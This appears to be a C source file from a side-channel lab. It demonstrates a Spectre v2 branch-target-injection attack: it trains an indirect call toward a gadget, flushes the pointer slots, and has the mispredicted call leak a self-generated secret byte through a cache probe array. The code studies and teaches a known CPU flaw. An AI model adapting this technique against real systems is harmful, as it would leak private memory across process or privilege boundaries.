/*
 * Spectre v2 in place: an indirect call goes where the branch target buffer says, until its pointer arrives.
 *
 * One and the same call first goes to gadget() with harmless data. Then its pointer says polite(), but lies in memory:
 * until it arrives the call runs gadget() once more, with a pointer to the secret in its argument.
 */
#include "lab.h"

typedef void handler(const u8 *text);

static const char ABOUT[] = "nobody: polite() gets its address and does not read it";

static u8 open_text[LINE] __attribute__((aligned(LINE)));
static u8 secret[MOST] __attribute__((aligned(LINE)));

NOINLINE static void gadget(const u8 *text)
{
    touch(probe + *text * STRIDE);
}

NOINLINE static void polite(const u8 *text)
{
    (void)text;
}

static struct { handler *call; u64 rest[7]; } slots[2] __attribute__((aligned(LINE))) = {{gadget, {0}}, {polite, {0}}};

NOINLINE static void dispatch(handler **slot, const u8 *text)
{
    SAME_HISTORY();
    (*slot)(text);
}

static int prepare(u64 bytes)
{
    make_secret(secret, bytes);
    ignored[open_text[0]] = 1;
    return 1;
}

static void attempt(u64 index)
{
    flush_probe();
    for (int more = trainings(); more >= 0; more--) {
        touch(secret + index);
        flush(&slots[0]);
        flush(&slots[1]);
        fence();
        dispatch(&PICK(more == 0, &slots[1], &slots[0])->call, PICK(more == 0, &secret[index], &open_text[0]));
    }
}

static void done(void)
{
}
